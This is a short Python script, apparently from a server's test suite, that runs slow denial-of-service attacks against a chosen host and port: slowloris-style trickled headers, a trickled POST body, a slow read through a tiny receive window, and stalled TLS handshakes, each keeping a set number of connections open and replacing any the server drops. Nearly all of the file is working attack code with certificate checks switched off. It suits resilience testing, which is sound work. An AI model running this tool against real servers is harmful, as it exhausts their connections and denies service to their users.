#!/usr/bin/python3
"""Clients that cost a server connections and patience: each kind keeps COUNT connections, and makes a new one for each that is closed.

Usage: attackers.py KIND HOST PORT SOURCE COUNT      KIND: slow-head, slow-body, slow-read, stalled-handshake
Prints a line of JSON, {"open": N, "closed": N, "refused": N}, whenever that has changed, once in a turn; ends with its standard input. Knows no
credential, and looks at no certificate: nobody has to, in order to attack."""
import json
import select
import socket
import ssl
import sys
import time

TURN = 0.5  # seconds between two bytes of one connection
HELLO = bytes.fromhex("16030102000100")  # a handshake record of 512 bytes, of which no more comes
BIG = "/docs/swagger-ui-bundle.js"  # more than all buffers on the way hold, and public


class Kind:
    """first: what is sent at once; then one byte of `drop` in each turn, or nothing at all."""

    def __init__(self, first, drop=b"", tls=True, window=None):
        self.first, self.drop, self.tls, self.window = first, drop, tls, window


KINDS = {
    "slow-head": Kind(b"GET /whoami HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"a"),
    "slow-body": Kind(b"POST /certificates HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 20000\r\n\r\n{", b" "),
    "slow-read": Kind(f"GET {BIG} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), window=4096),
    "stalled-handshake": Kind(HELLO, tls=False),
}


class Attackers:
    def __init__(self, kind, host, port, source, count):
        self.kind, self.address, self.source, self.count = KINDS[kind], (host, port), source, count
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.open, self.closed, self.refused, self.told = {}, 0, 0, None

    def one(self):
        plain = socket.socket()
        try:
            plain.settimeout(10)
            if self.kind.window:
                plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.kind.window)
            plain.bind((self.source, 0))
            plain.connect(self.address)
            wire = self.context.wrap_socket(plain) if self.kind.tls else plain
            wire.setblocking(False)
            self.open[wire.fileno()] = wire
            self.send(wire, self.kind.first)
        except OSError:
            plain.close()
            self.refused += 1

    @staticmethod
    def send(wire, text):
        """Whether there is still somebody at the other end."""
        try:
            wire.send(text)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            return False
        return True

    def drop(self, fd):
        self.open.pop(fd).close()
        self.closed += 1

    def gone(self):
        """Those that the server has closed: the end of the stream, or a reset."""
        poll = select.poll()
        for fd in self.open:
            poll.register(fd, select.POLLRDHUP)
        return [fd for fd, _ in poll.poll(0)]

    def turn(self):
        for fd in self.gone():
            self.drop(fd)
        for fd, wire in list(self.open.items()):
            if self.kind.drop and not self.send(wire, self.kind.drop):
                self.drop(fd)
        for _ in range(min(100, self.count - len(self.open))):
            self.one()
        said = {"open": len(self.open), "closed": self.closed, "refused": self.refused}
        if said != self.told:
            print(json.dumps(said), flush=True)
        self.told = said

    def run(self):
        until = time.monotonic()
        while not select.select([sys.stdin], [], [], max(0, until - time.monotonic()))[0]:
            until = time.monotonic() + (TURN if len(self.open) == self.count else 0)
            self.turn()


if __name__ == "__main__":
    kind, host, port, source, count = sys.argv[1:]
    Attackers(kind, host, int(port), source, int(count)).run()
